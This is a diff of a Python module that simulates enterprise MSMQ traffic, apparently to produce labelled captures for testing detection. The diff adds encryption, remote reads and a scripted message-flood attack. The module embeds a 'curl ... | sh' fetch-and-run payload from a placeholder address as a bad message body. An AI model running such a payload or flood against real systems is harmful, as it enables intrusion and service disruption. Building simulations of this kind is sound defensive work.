@@ -1,11 +1,13 @@
 """Days of an enterprise: applications with roles, a router, readers, failures and attacks; and their truth.
 
 1. `Rehearsal` plans what applications, programs and attackers do, and when; `network` plays it.
-2. Branches send orders over a hub, and the hosts of the center send transactional messages to each other, in
-   working hours and less at night.  Programs read the queues, answer, and stop for hours.  Links break, hosts
-   restart, a queue is closed.  Two directory servers replicate.
+2. Branches send orders over a hub, and the hosts of the center send transactional, signed and encrypted
+   messages to each other, and one to two of them, in working hours and less at night.  Programs read the
+   queues, some from afar, answer, and stop for hours.  Links break, hosts restart, a queue is closed.  Two
+   directory servers replicate.
 3. Sensor 0 is beside the hub, where attackers come in, and the next ones are beside the hosts of the center.
-   It also captures the directory servers.
+   It also captures the directory servers and remote reads.  Nothing captures what branches without a sensor
+   send straight to each other.
 4. Everything is determined by the seed.
 """
 
@@ -15,6 +17,7 @@ import struct
 from collections import Counter
 from functools import partial
 from ipaddress import IPv4Address
+from itertools import pairwise
 from random import Random
 from typing import TYPE_CHECKING, Any, Final, NamedTuple
 
@@ -22,27 +25,35 @@ import msmq_wire as mw
 from msmq_wire import GUID, mqmq, mqqb
 from msmq_wire.captures.rows.packets import CLOCK_TOLERANCE
 from msmq_wire.machines.session import Message, Settings
+from msmq_wire.names.format_names import PrivateName
+from msmq_wire.testing.strategies.directory import signed
 from msmq_wire.values.errors import MsmqWireError, need_within
 
 from .connections import Faults
 from .network import Host, Network, Sensor
-from .replication import Server, session
-from .statements import final_hop, state
+from .remote_reads import Reader
+from .replication import Server, handshake, session
+from .statements import final_hop, state, worst
 
 if TYPE_CHECKING:
-    from collections.abc import Callable, Iterator
+    from collections.abc import Callable, Iterable, Iterator
 
+    from .network import Seal
     from .statements import Evidence, Letter
     from .truth import Span
     from .wire import Frame
 
-__all__ = ["Attack", "Dependency", "Outcome", "Rehearsal", "seconds_of"]
+__all__ = ["Attack", "Dependency", "Machine", "Outcome", "Rehearsal", "RemoteRead", "seconds_of"]
 
 _CLASS: Final = mqmq.MESSAGE_CLASS_VALUES
 _START: Final = 1_699_833_600  # a Monday, 00:00 UTC
 _MINUTE, _HOUR, _DAY = 60.0, 3600.0, 86_400.0
 _FLOOD: Final = 320
 """Connections of a flood, in half a minute."""
+_MESSAGES: Final = 3200
+"""Messages of a flood."""
+_COMPARED: Final = 40 * _MINUTE
+"""Seconds in which a host has to get messages before it is known how many it usually gets."""
 _REPLICATIONS: Final = 8
 """Sessions of the directory servers."""
 _OPENS, _CLOSES, _WORKDAYS = 8, 18, 5
@@ -53,6 +64,7 @@ _LEAST, _MOST = len(_CENTER) + 1, 250
 _UNITS: Final = {"s": 1.0, "m": _MINUTE, "h": _HOUR, "d": _DAY}
 _LONGEST: Final = 366 * _DAY
 _FOREVER: Final = 0xFFFFFFFF
+_AES_256, _MODULUS, _BLOCK = 0x6610, 128, 16
 
 
 def seconds_of(text: str) -> float:
@@ -76,6 +88,8 @@ class _Application(NamedTuple):
         rate: Messages an hour, in working hours.
         size: The most bytes of a body.
         options: Arguments of `Message`.
+        direct: Whether the queue has a direct name, with that of the host.
+        seal: Signs or encrypts the packets, if given.
     """
 
     name: str
@@ -83,6 +97,27 @@ class _Application(NamedTuple):
     rate: float
     size: int
     options: dict[str, Any]
+    direct: bool = False
+    seal: Seal | None = None
+
+
+def _encrypted(packet: mqmq.UserMessage) -> mqmq.UserMessage:
+    """Return a message with a body that nobody can read, and a key that nobody has."""
+    dice = Random(packet.UserHeader.SentTime)  # noqa: S311  # repeatable on purpose
+    key = mqqb.SIMPLEBLOB(sessionKeyAlgorithm=_AES_256, encryptedKey=dice.randbytes(_MODULUS))
+    properties = packet.MessagePropertiesHeader
+    size = len(properties.MessageBody)
+    body = dice.randbytes(size + -size % _BLOCK)
+    return mw.replace(
+        packet,
+        SecurityHeader=mqmq.SecurityHeader(
+            Flags=mqmq.SecurityHeaderFlags(EB=1),
+            SecurityData=mqmq.SecurityData(EncryptionKey=key.encode()),
+        ),
+        MessagePropertiesHeader=mw.replace(
+            properties, MessageBody=body, PrivacyLevel=5, EncryptionAlgorithm=_AES_256
+        ),
+    )
 
 
 _ASKS: Final = dict.fromkeys(
@@ -108,8 +143,21 @@ _OF_CENTER: Final = (
     ("erp", "warehouse", _Application("shipment", 0x22, 25, 1500,
                                       {"transactional": True, "dead_letter": True, **_ASKS})),
     ("billing", "erp", _Application("payment", 0x23, 12, 800,
-                                    {"recoverable": True, "negative_arrival": True, "be_received": 7200})),
+                                    {"recoverable": True, "negative_arrival": True, "be_received": 7200},
+                                    seal=signed)),
+    ("erp", "billing", _Application("payroll", 0x24, 4, 2000,
+                                    {"recoverable": True, "positive_receive": True}, seal=_encrypted)),
+    ("erp", "billing", _Application("credit note", 0x25, 6, 900, {"recoverable": True}, direct=True)),
+    ("warehouse", "erp", _Application("pick list", 0x26, 5, 300, {"be_received": 120, **_ASKS}, direct=True)),
 )  # fmt: skip
+_TRANSFER: Final = _Application("transfer", 0x14, 3, 400, {"recoverable": True}, direct=True)
+"""What branches send straight to the next branch."""
+_PRICES: Final = _Application("price list", 0x27, 6, 2500, {**_ASKS, "reach_queue": 60})
+_LISTED: Final = ("billing", "warehouse")
+"""The hosts that get price lists, of which each has a queue."""
+_TARIFF: Final = 0x15
+_SHORT: Final = 30
+"""Seconds in which some messages have to reach their queue."""
 _ACKNOWLEDGED: Final = frozenset(
     {"positive_arrival", "positive_receive", "negative_arrival", "negative_receive"}
 )
@@ -117,16 +165,19 @@ _ACKNOWLEDGED: Final = frozenset(
 _ADMINISTRATION, _ANSWERS = 0x31, 0x32
 _CLOSED: Final = frozenset({0x13, 0x22})
 """The numbers of the queues that are closed for a time."""
+_FROM_AFAR: Final = frozenset({"stocktaking", "transfer"})
+"""The applications whose queues a program on another host reads, once an hour."""
 
 
 class Outcome(NamedTuple):
-    """What became of a message.
+    """What became of a message; of one to several queues the worst.
 
     Attributes:
         message: Its identifier, as in the table `messages`.
         source: Name of the host that sent it.
-        home: Name of the host with its queue.
-        destination: Format name of the queue.
+        home: Name of the host with its queue; of several the first.
+        destination: Format name of the queue; of several the first.
+        queues: Number of its queues.
         label: Its label.
         message_class: Number of its class.
         sent_at: Seconds since 1970.
@@ -143,6 +194,7 @@ class Outcome(NamedTuple):
     source: str
     home: str
     destination: str
+    queues: int
     label: str
     message_class: int
     sent_at: int
@@ -162,9 +214,11 @@ class Dependency(NamedTuple):
         queue_manager: GUID of its queue manager.
         home: Name of the host with the queue.
         destination: Format name of the queue.
-        messages: Number of messages that were written to the wire.
+        messages: Number of messages of which a packet was written to the wire, for this or another queue.
         captured: Number of those of which a packet was captured completely.
         bytes: Size of the packets of these, each once.
+        encrypted: Number of these with an encrypted body.
+        signed: Number of these with a signature.
     """
 
     source: str
@@ -175,6 +229,50 @@ class Dependency(NamedTuple):
     messages: int
     captured: int
     bytes: int
+    encrypted: int
+    signed: int
+
+
+class Machine(NamedTuple):
+    """A host with a queue manager.
+
+    Attributes:
+        machine: Its name.
+        address: Its IP address.
+        queue_manager: GUID of its queue manager.
+        located: Whether the captures prove the address: all bytes of a session with a message.
+        named: Whether they prove the name: such a session with a message to a direct name.
+    """
+
+    machine: str
+    address: str
+    queue_manager: str
+    located: bool
+    named: bool
+
+
+class RemoteRead(NamedTuple):
+    """A message that a program took from a queue of another host.
+
+    Attributes:
+        time: Seconds since 1970.
+        message: The message.
+        queue_manager: GUID of the queue manager that sent it first.
+        destination: Format name of the queue.
+        home: Name of the host with the queue.
+        reader: The GUID by which the program opened the queue.
+        address: IP address of the program.
+        captured: Whether all bytes of the calls were captured.
+    """
+
+    time: float
+    message: str
+    queue_manager: str
+    destination: str
+    home: str
+    reader: str
+    address: str
+    captured: bool
 
 
 class Attack(NamedTuple):
@@ -286,9 +384,39 @@ class Rehearsal:
 
     def _plan_applications(self, branches: list[str]) -> None:
         plans = [(branch, to, application) for branch in branches for to, application in _OF_BRANCHES]
-        for source, to, application in (*plans, *_OF_CENTER):
+        pairs = [(one, other, _TRANSFER) for one, other in pairwise(branches)]
+        for source, to, application in (*plans, *_OF_CENTER, *pairs):
             for number, at in enumerate(self._moments(application.rate), 1):
                 self._plan_message(at, source, to, application, f"{application.name} {number}")
+        for number, at in enumerate(self._moments(_PRICES.rate), 1):
+            self._plan_price_list(at, f"{_PRICES.name} {number}")
+        self._plan_reads(branches)
+
+    def _plan_price_list(self, at: float, label: str) -> None:
+        """Plan a message to several queues."""
+        queues = [PrivateName(self._net.hosts[name].identifier, _PRICES.queue) for name in _LISTED]
+        message = Message(
+            str(queues[0]),
+            bytes(self._random.choices(_LETTERS, k=_PRICES.size)),
+            label=label,
+            admin_queue=_private(self._net.hosts["erp"], _ADMINISTRATION),
+            **_PRICES.options,
+        )
+        self._net.at(at, lambda: self._net.distribute("erp", message, queues))
+
+    def _plan_reads(self, branches: list[str]) -> None:
+        """Plan a program that reads some queues once an hour from another host."""
+        own = Random(f"{self._more.random()} reads")  # noqa: S311  # repeatable on purpose
+        reader = Reader("reporting", IPv4Address("10.3.0.9"), GUID(own.randbytes(16)))
+        stocktaking = _OF_BRANCHES[-1][1]
+        queues = [("warehouse", _private(self._net.hosts["warehouse"], stocktaking.queue))]
+        queues += [(name, _direct(name, _TRANSFER)) for name in branches[1:]]
+        for hour in range(int((self._end - _START) // _HOUR) + 1):
+            for host, queue in queues:
+                at = _START + hour * _HOUR + own.uniform(0.6, 0.9) * _HOUR
+                sensor = self._sensors[0].name
+                read = partial(self._net.read_from_afar, reader, host, queue, sensor, own)
+                self._net.at(at, read)
 
     def _plan_message(
         self,
@@ -308,13 +436,14 @@ class Rehearsal:
             self._transactions[source] += 1
             more = {**more, "transaction": self._transactions[source]}
         message = Message(
-            _private(target, application.queue),
+            _direct(to, application) if application.direct else _private(target, application.queue),
             body if body is not None else bytes(self._random.choices(_LETTERS, k=size)),
             label=label,
             admin_queue=_private(own, _ADMINISTRATION) if _ACKNOWLEDGED & {*more} else "",
             **more,
         )
-        self._net.at(at, lambda: self._net.send(source, to, message))
+        direct, seal = application.direct, application.seal
+        self._net.at(at, lambda: self._net.send(source, to, message, direct=direct, seal=seal))
 
     def _plan_failures(self) -> None:
         """For every day: a link that breaks, a host that restarts, and a program that does not run."""
@@ -329,6 +458,17 @@ class Rehearsal:
             self._net.at(working[1], partial(self._net.restart, host, down))
             self._net.at(working[2], partial(self._stop, random.choice(_CENTER[1:]), stop))
             self._net.at(working[3], partial(self._close, (working[3], working[3] + 2 * _HOUR)))
+            self._plan_silence(working[0] - _HOUR / 2, 4 * _SHORT, reach_queue=_SHORT)
+        span = self._end - _START
+        self._plan_silence(self._end - min(_MINUTE, span / 4), span)
+
+    def _plan_silence(self, at: float, outage: float, **options: Any) -> None:
+        """Plan messages of the hub that are under way when the link breaks: nobody ever answers them."""
+        branch = self._more.choice(self._names[len(_CENTER) :])
+        message = Message(_private(self._net.hosts[branch], _TARIFF), b"tariff", label="tariff", **options)
+        for before in (_MINUTE / 240, 3e-6, 2e-6, 1e-6):  # the first one opens a session
+            self._net.at(at - before, lambda: self._net.send("hub", branch, message))
+        self._net.at(at, partial(self._net.break_link, branch, "hub", outage))
 
     def _stop(self, host: str, span: tuple[float, float]) -> None:
         self._stopped[host] = span
@@ -340,6 +480,8 @@ class Rehearsal:
 
     def _received(self, host: Host, packet: mqmq.UserMessage) -> None:
         """A message is in its queue: a program will read it, or its time runs out before."""
+        if packet.label.rpartition(" ")[0] in _FROM_AFAR:
+            return
         now, stopped = self._net.now, self._stopped.get(host.name, (0.0, 0.0))
         at = now + self._random.expovariate(1 / 3)
         if stopped[0] <= at < stopped[1]:
@@ -414,6 +556,42 @@ class Rehearsal:
         flood = self._connect(plan, request, random)
         self._attacks.append(("connection-flood", begin + 5, flooder, dst, flood))
         self._plan_directory(minute())
+        self._plan_messages(minute() + 5)
+
+    def _plan_messages(self, at: float) -> None:
+        """Plan a source that sends as many messages to a host at once as it gets in days."""
+        random, erp, sensor = self._more, self._net.hosts["erp"], self._sensors[0].name
+        source, manager = f"203.0.113.{250 + random.randrange(4)}", GUID(random.randbytes(16))
+        queue = _private(erp, _OF_BRANCHES[0][1].queue)
+        packets = handshake(manager, erp.identifier, at)
+        for number in range(1, _MESSAGES + 1):
+            packet = mqmq.UserMessage.of(
+                SourceQueueManager=manager,
+                QueueManagerAddress=erp.identifier,
+                MessageID=number,
+                SentTime=int(at),
+                DestinationQueue=queue,
+                MessageBody=b"x",
+            )
+            packets.append((0, mw.encode(packet)))
+        rider = mqmq.SessionHeader(AckSequenceNumber=_MESSAGES)
+        packets.append((1, mw.encode(mqqb.SessionAck(SessionHeader=rider))))
+        seen: list[bool] = []
+        self._net.at(
+            at, lambda: seen.append(self._net.intrude(source, str(erp.ip), packets, sensor, random).whole)
+        )
+
+        def is_known() -> bool:
+            """Return whether the sensor also captured how few messages the host gets otherwise."""
+            times = [
+                row.time
+                for letter in self._net.letters
+                for row in letter.captured.values()
+                if row.what == "carried" and row.hop[1] == "erp" and row.line.endswith(f" {sensor}")
+            ]
+            return all(seen) and bool(seen) and max(times, default=at) - min(times, default=at) > _COMPARED
+
+        self._attacks.append(("message-flood", at, source, str(erp.ip), is_known))
 
     def _plan_directory(self, begin: float) -> None:
         """Plan directory servers that replicate, and a stranger who twice sends changes to one of them."""
@@ -468,24 +646,39 @@ class Rehearsal:
 
     def outcomes(self) -> Iterator[Outcome]:
         """Yield what became of each message, after `run`."""
-        net = self._net
-        for letter in net.letters.values():
-            captured = [*letter.captured.values()]
-            stated = state(letter, captured, self._until(letter, captured))
+        for copies in self._messages():
+            first = copies[0]
+            home, destination = next(iter(first.queues.items()))
+            stated = [self._stated(letter) for letter in copies]
+            captured = [row for letter in copies for row in letter.captured.values()]
+            unsent = len(first.queues) - len(copies)
             yield Outcome(
-                letter.message,
-                letter.source,
-                letter.home,
-                letter.destination,
-                letter.label,
-                letter.message_class,
-                letter.sent_at,
-                letter.fate,
-                letter.has_been("dead-lettered"),
+                first.message,
+                first.source,
+                home,
+                destination,
+                len(first.queues),
+                first.label,
+                first.message_class,
+                first.sent_at,
+                worst([*(letter.fate for letter in copies), *["sent"] * unsent]),
+                any(letter.has_been("dead-lettered") for letter in copies),
                 len({row.hop for row in captured if row.what == "carried"}),
-                stated,
-                self._is_certain(letter, stated),
+                worst([*stated, *["unseen"] * unsent]),
+                all(self._is_certain(letter, own) for letter, own in zip(copies, stated, strict=True)),
             )
+
+    def _messages(self) -> Iterable[list[Letter]]:
+        """Return the copies of each message that were written."""
+        messages: dict[str, list[Letter]] = {}
+        for letter in self._net.letters:
+            messages.setdefault(letter.message, []).append(letter)
+        return messages.values()
+
+    def _stated(self, letter: Letter) -> str:
+        """Return the state that follows from what was captured."""
+        captured = [*letter.captured.values()]
+        return state(letter, captured, self._until(letter, captured))
 
     def _is_certain(self, letter: Letter, stated: str) -> bool:
         """Return whether all is captured that a reader needs to know about a message."""
@@ -506,24 +699,54 @@ class Rehearsal:
 
     def dependencies(self) -> Iterator[Dependency]:
         """Yield what each host sent to each queue, without acknowledgments, after `run`."""
-        net = self._net
-        groups: dict[tuple[str, str, str], list[Any]] = {}
-        for letter in net.letters.values():
-            if not letter.message_class:
-                groups.setdefault((letter.source, letter.home, letter.destination), []).append(letter)
-        for (source, home, destination), letters in sorted(groups.items()):
-            host = net.hosts[source]
-            seen = [one for one in letters if any(row.what == "carried" for row in one.captured.values())]
-            size = sum(letter.size for letter in seen)
-            yield Dependency(
-                source, str(host.ip), str(host.identifier), home, destination, len(letters), len(seen), size
+        groups: dict[tuple[str, str, str], Counter[str]] = {}
+        for copies in self._messages():
+            first = copies[0]
+            if first.message_class:
+                continue
+            is_seen = any(map(_is_seen, copies))
+            for home, destination in first.queues.items():
+                group = groups.setdefault((first.source, home, destination), Counter())
+                group["messages"] += 1
+                group["captured"] += is_seen
+                group["bytes"] += first.size * is_seen
+                group["encrypted"] += first.encrypted and is_seen
+                group["signed"] += first.signed and is_seen
+        for (source, home, destination), group in sorted(groups.items()):
+            host = self._net.hosts[source]
+            yield Dependency(source, str(host.ip), str(host.identifier), home, destination, **group)
+
+    def machines(self) -> Iterator[Machine]:
+        """Yield the hosts, after `run`."""
+        located, named = set[str](), set[str]()
+        for letter in self._net.letters:
+            for row in letter.captured.values():
+                if row.what == "carried" and row.line not in self._net.lost:
+                    located.update(row.hop)
+                    named.update(row.hop[1:] if letter.destination.startswith("DIRECT=OS:") else ())
+        for name, host in self._net.hosts.items():
+            yield Machine(name, str(host.ip), str(host.identifier), name in located, name in named)
+
+    def reads(self) -> Iterator[RemoteRead]:
+        """Yield what was read from afar, after `run`."""
+        for read in self._net.reads:
+            letter, reader = read.letter, read.reader
+            yield RemoteRead(
+                read.time,
+                letter.message,
+                letter.message.partition("\\")[0],
+                letter.destination,
+                letter.home,
+                str(reader.identifier),
+                str(reader.ip),
+                read.captured,
             )
 
     def attacks(self) -> Iterator[Attack]:
         """Yield what attackers did, after `run`; a message with a bad body on each hop that was captured."""
         for pattern, at, src, dst, captured in self._attacks:
             yield Attack(pattern, at, src, dst, captured())
-        for letter in self._net.letters.values():
+        for letter in self._net.letters:
             for pattern in self._bodies.get(letter.label, ()):
                 hops = {row.hop: row.time for row in letter.passed.values() if row.what == "carried"}
                 known = {row.hop for row in letter.captured.values() if row.what == "carried"}
@@ -535,6 +758,15 @@ class Rehearsal:
 _ANSWERED: Final = frozenset({"refused", "received", "reached", "accepted"})
 _LETTERS: Final = b"abcdefghijklmnopqrstuvwxyz 0123456789"
 _SCRIPT: Final = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
+
+
+def _is_seen(letter: Letter) -> bool:
+    """Return whether a packet of a message was captured completely."""
+    return any(row.what in {"carried", "read"} for row in letter.captured.values())
+
+
+def _direct(host: str, application: _Application) -> str:
+    return rf"DIRECT=OS:{host}\private$\{application.name.replace(' ', '-')}"
 
 
 def _private(host: Host, number: int) -> str:
